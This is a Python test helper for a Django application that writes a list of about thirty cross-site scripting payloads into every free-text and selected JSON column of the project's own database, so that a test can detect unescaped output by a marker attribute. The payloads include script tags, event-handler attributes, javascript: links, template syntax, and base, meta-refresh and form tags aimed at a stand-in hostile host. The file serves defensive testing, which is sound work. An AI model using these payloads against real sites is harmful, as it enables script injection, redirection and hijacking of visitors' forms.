"""Hostile texts, in every column where what a person typed or a message carried is kept (threat 17).

Found by the shape of the database: a text column that is added tomorrow is hostile too, unless it stands in `CODES`.
"""

from __future__ import annotations

import itertools
from collections import Counter
from typing import Any, Final
from uuid import uuid4

from django.apps import apps
from django.db import DatabaseError, models, transaction

MERK: Final = "data-xss"
"""Every text makes an element with this attribute, wherever it is taken for HTML: the judge needs no script to see it."""
TEKSTEN: Final = (
    "<i data-xss>x",
    "</title></textarea><i data-xss>x",
    "\"><i data-xss x='",
    "'><i data-xss x=\"",
    "<script data-xss>window.__xss=1;alert(1)</script>",
    "<img data-xss src=x onerror=alert(1)>",
    "<svg data-xss onload=alert(1)>",
    '" autofocus onfocus="alert(1)" data-xss="',
    "' onmouseover='alert(1)' data-xss='",
    '<a data-xss href="javascript:alert(1)">x</a>',
    "<iframe data-xss srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<style data-xss>*{display:none}</style>",
    '<base data-xss href="//kwaad.example.nl/">',
    '<meta data-xss http-equiv="refresh" content="0;url=//kwaad.example.nl/">',
    "<form data-xss action=//kwaad.example.nl><input name=x></form>",
    "<math><mi data-xss xlink:href='javascript:alert(1)'>x",
    "<details data-xss open ontoggle=alert(1)>",
    "--><i data-xss>x<!--",
    "]]><i data-xss>x",
    "{{ 7|add:7 }}{% debug %}<i data-xss>",
    "</script><i data-xss>x",
    "\\u003ci data-xss\\u003e\\x3ci data-xss\\x3e<i data-xss>",
    "＜script＞alert(1)＜/script＞<i data-xss>",
    "<i data-xss hx-get='/x' hx-trigger=load>",
    "javascript:alert(1)//<i data-xss>",
    "<input data-xss type=image src=x onerror=alert(1)>",
    "<object data-xss data=javascript:alert(1)>",
    "\u202e<i data-xss>\u202c",
    "&lt;i data-xss&gt;<i data-xss>",
    "<i\tdata-xss\n>",
)
# Columns that hold a code of ours, an address we look up by, or a hash: nobody types them.
CODES: Final = frozenset(
    {
        "code", "agb", "password", "sha256", "mediatype", "mail_sleutel", "sleutel", "antwoord_pad", "taak", "automatisch",
        "actie", "object_soort", "object_kenmerk", "rol", "zoeknaam", "identificatie", "afzender", "ontvanger", "release",
        "productcategorie", "productcode", "reden_wijziging", "paragraaf", "oordeel", "oordeel_regel", "besluit", "advies",
        "verdict", "regel", "vorig_oordeel", "vorige_regel", "soort", "categorie", "kwartaal", "documentnaam",
        "overgenomen_uit", "definities", "tweede_stap", "uitgever",
    }
)  # fmt: skip
JSON_MET_ZINNEN: Final = frozenset({"fouten", "verslag", "namen"})
ONZE: Final = (
    "techniek", "organisaties", "beschikkingen", "stopberichten", "resultaat", "rapportage", "meldingen",
)  # fmt: skip


def kolommen() -> list[tuple[type[models.Model], models.Field[Any, Any]]]:
    """Every column of ours in which somebody's words stand."""
    return [
        (model, veld)
        for model in apps.get_models()
        if model._meta.app_label in ONZE and not model.__name__.endswith("Event")
        for veld in model._meta.concrete_fields
        if _is_tekst(veld) or (isinstance(veld, models.JSONField) and veld.name in JSON_MET_ZINNEN)
    ]


def _is_tekst(veld: models.Field[Any, Any]) -> bool:
    return (
        isinstance(veld, models.CharField | models.TextField) and not veld.choices and veld.name not in CODES
    )


def maak_vijandig() -> Counter[str]:
    """Put a hostile text in each of them, in every row; answers how many rows of each column took it."""
    beurt, gezet = itertools.cycle(TEKSTEN), Counter[str]()
    for model, veld in kolommen():
        rijen = list(model._default_manager.order_by("pk").values_list("pk", veld.attname))
        nieuw = [(pk, _vijandig(veld, oud, beurt)) for pk, oud in rijen]
        # The column at once; where a rule of the database keeps one row as it is, row by row.
        gelukt = _zet(model, veld, nieuw) or sum(_zet(model, veld, [een]) for een in nieuw)
        if gelukt:
            gezet[f"{model._meta.label}.{veld.name}"] += gelukt
    return gezet


def _zet(model: type[models.Model], veld: models.Field[Any, Any], nieuw: list[tuple[Any, Any]]) -> int:
    """In one statement; 0 when the database refuses."""
    keuzes = [models.When(pk=pk, then=models.Value(waarde, output_field=veld)) for pk, waarde in nieuw]
    try:
        with transaction.atomic():
            rijen = model._default_manager.filter(pk__in=[pk for pk, _ in nieuw])
            return rijen.update(**{veld.attname: models.Case(*keuzes)}) if nieuw else 0
    except DatabaseError:
        return 0


def _vijandig(veld: models.Field[Any, Any], oud: Any, beurt: Any) -> Any:
    if isinstance(veld, models.JSONField):
        return _diep(oud, beurt)
    if isinstance(veld, models.EmailField):
        return f'"<i/data-xss/{uuid4().hex[:8]}>"@example.nl'
    tekst = next(beurt)
    if veld.unique:
        tekst = f"{uuid4().hex[:8]}{tekst}"
    return tekst if veld.max_length is None else tekst[: veld.max_length]


def _diep(waarde: Any, beurt: Any) -> Any:
    if isinstance(waarde, dict):
        return {naam: _diep(w, beurt) for naam, w in waarde.items()}
    if isinstance(waarde, list):
        return [_diep(w, beurt) for w in waarde]
    return next(beurt) if isinstance(waarde, str) else waarde
